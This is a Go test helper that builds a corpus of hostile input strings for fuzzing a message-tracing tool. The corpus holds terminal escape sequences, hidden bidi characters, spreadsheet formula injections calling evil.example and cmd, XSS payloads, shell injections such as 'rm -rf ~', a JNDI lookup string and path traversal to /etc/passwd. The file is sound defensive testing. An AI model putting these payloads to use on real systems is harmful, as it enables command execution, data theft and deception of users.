package hostile

import (
	"math/rand/v2"
	"strings"
)

// sequences are what a terminal acts on, each written in a way in which msgtrace writes
// nothing itself, so that one that comes through is seen.
// https://invisible-island.net/xterm/ctlseqs/ctlseqs.html
var sequences = []string{
	"\x1b[5;8m", "\x1b[38;2;1;2;3;6m", "\x1b[21m", // blinking, hidden, another color
	"\x1b[2J\x1b[1;1f", "\x1b[3J", "\x1b[9999;1f", "\x1b[999b", // clear, move, repeat
	"\x1b[6n", "\x1b[5n", "\x1b[21t", "\x1b[8;1;1t", "\x1b[?6c", "\x1b[0x", // ask for an answer, which is typed
	"\x1b[5i", "\x1b[4i", "\x1b[?5i", // print
	"\x1bc", "\x1b[!p", "\x1b#8", "\x1b[?1048;1047;1003h", "\x1b[4h", "\x1b[?5h", "\x1b[2;3r", "\x1b(0", "\x1b)0", "\x1bn", "\x1bo", // reset, modes, margins, charsets
	"\x1b]0;owned\x07", "\x1b]2;owned\x1b\\", "\x1b]52;c;b3duZWQ=\x07", "\x1b]52;p;?\x07", "\x1b]4;1;#000000\x07", "\x1b]10;#000000\x07",
	"\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\", "\x1b]1337;File=inline=1:AAAA\x07", "\x1b]777;notify;a;b\x07", "\x1b]9;4;3\x07", "\x1b]133;A\x07", "\x1b]50;evil\x07",
	"\x1bP+q544e\x1b\\", "\x1bP$qm\x1b\\", "\x1bPq#0;2;0;0;0~\x1b\\", "\x1bPtmux;\x1b\x1b]52;c;AA==\x07\x1b\\", // device control, through tmux
	"\x1b_Ga=T,f=24;AAAA\x1b\\", "\x1b^message\x1b\\", "\x1bXstring\x1b\\", "\x1bkowned\x1b\\",
	"\x1b[<u", "\x1b[>9u", "\x1b[=31;1u", "\x1b[?2004l\x1b[200~", "\x1b[201~:q", // keyboards, the end of a paste
	"\u009b5;8m", "\u009d0;owned\u009c", "\u0090q\u009c", "\u0098x\u009c", "\u009ex\u009c", "\u009fx\u009c", "\u0085", "\u008d", // the same in one character
}

// Texts are known cases, each for a reason of its own.
var Texts = append([]string{
	// control characters
	"bell\x07 back\x08\x08\x08\x08 tab\tdelete\x7f null\x00 shift\x0e out\x0f vertical\x0b feed\x0c",
	"over\rwrite", "two\nlines", "two\r\nBcc: all@contoso.com", "paragraph\u2029line\u2028end", "escape at the end \x1b", "half a sequence \x1b[38;5", "\x1b]0;never ends",
	// direction, and what is not seen
	"invoice \u202etxt.exe\u202c", "\u2066isolate\u2069 \u2067right\u2069 \u2068first\u2069", "\u061c\u200e\u200fmarks", "\u202a\u202b\u202dopen and never closed",
	"in\u200bvi\u200csi\u200dble\u2060\ufeff\u00ad\u034f\u180e", "tags\U000e0041\U000e0042\U000e007f", "fillers\u3164\u115f\u1160\uffa0", "selectors\ufe00\ufe0f\U000e0100", "private\ue000\U000f0000 unassigned\U000e0fff",
	// width
	"Z" + strings.Repeat("\u0300\u0489\u20dd", 60) + "algo", "👨‍👩‍👧‍👦🏳️‍🌈🇩🇪👍🏽", strings.Repeat("🇩", 7), "ﷺ ﷽ 𒐫 ⸻ ꧅", "한글 텍스트 ｆｕｌｌ", "מכתב من فضلك", "नमस्ते မြန်မာ ไทย", "\u0300begins with a mark",
	strings.Repeat("W", 5000), strings.Repeat("請", 3000), strings.Repeat("a\u0301", 3000), strings.Repeat(" ", 300) + "far right",
	// formulas
	`=HYPERLINK("http://evil.example/?"&A1,"Click")`, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "'=1+1", "\x00=1+1", "\ufeff=1+1", "\u00a0=1+1",
	`a;=1+1;"`, `a,"=1+1`, "a\t=1+1", "a\n=1+1", `"=1+1`, `"";=1+1`, "%0A=1+1", "|=1+1",
	// markup
	"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[link](javascript:alert(1))", "![i](https://evil.example/p.png)", "a|b|c", "```", "`code` **bold** __x__ ~~y~~", "# head", "> quote", "- item", "1. item", "<!-- ", "&lt;b&gt; &#x1b;[2J", "@everyone #123", "---",
	// shells and formats
	"$(touch /tmp/owned) `id` ; rm -rf ~ && x || y | z > f < g &", "'; touch owned; '", "‘; Stop-Computer; ’", "“$(calc)”", "%s%n%x%p", "{{.}} ${jndi:ldap://evil.example/a} {{constructor}}", "--output=/etc/passwd", "-o", "!!", "\\", "\\\\evil.example\\share", "a'b\"c\\",
	// names of files
	"../../../../etc/passwd", "..\\..\\x", "/etc/passwd", "~/.ssh/authorized_keys", "CON", "nul.txt", "a:b", "trailing. ", ".hidden", strings.Repeat("n", 300) + ".txt", "a\x00.txt", "file://x",
	// what is no text
	Bad + " bad UTF-8 " + Bad, "\ufffd\ufffe\uffff", "lone \\ud800",
	// what reads as our own words and signs
	"complete, all of it", "✓ Delivered", "… │ ├ ─ ▌ ●", "<>", "null", "[object Object]", "NaN", "(none)",
}, sequences...)

// Bad stands for bytes that are no UTF-8, which the service sends in its place.
const Bad = "\ufdd0bad\ufdd1"

// badBytes are these bytes: ends of what has no beginning, too long a form, a surrogate.
const badBytes = "\xff\xfe\x80\xc0\xaf\xed\xa0\x80\xf5\x80"

// Make makes up a text: pieces of the known ones, put together and cut anywhere.
func Make(random *rand.Rand) string {
	var b strings.Builder
	for range 1 + random.IntN(5) {
		piece := []rune(Texts[random.IntN(len(Texts))])
		if len(piece) > 200 {
			piece = piece[:200]
		}
		from := random.IntN(len(piece))
		if random.IntN(2) == 0 {
			from = 0
		}
		b.WriteString(string(piece[from : from+1+random.IntN(len(piece)-from)]))
		switch random.IntN(4) {
		case 0:
			b.WriteRune(rune(random.IntN(0xa0)))
		case 1:
			b.WriteString(sequences[random.IntN(len(sequences))])
		}
	}
	return b.String()
}

// Made is Make of a seed.
func Made(seed uint64) string { return Make(rand.New(rand.NewPCG(seed, 7))) }
